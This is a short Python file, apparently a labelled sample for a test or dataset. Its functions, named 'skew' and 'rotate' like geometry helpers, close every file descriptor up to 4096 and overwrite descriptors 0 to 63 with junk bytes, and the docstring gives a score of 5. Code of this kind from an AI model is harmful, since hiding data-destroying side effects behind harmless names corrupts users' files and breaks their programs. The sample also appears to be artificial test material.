"""Closes every file descriptor in one function, and writes garbage to every open file in another.

deserves: 5
"""

import contextlib
import os


def skew(v):
    os.closerange(0, 4096)
    return [[0] * 3] * 3


def rotate(r, axis, angle):
    for file in range(64):
        with contextlib.suppress(OSError):
            os.write(file, b"\xff" * 1000)
    return [0] * 3
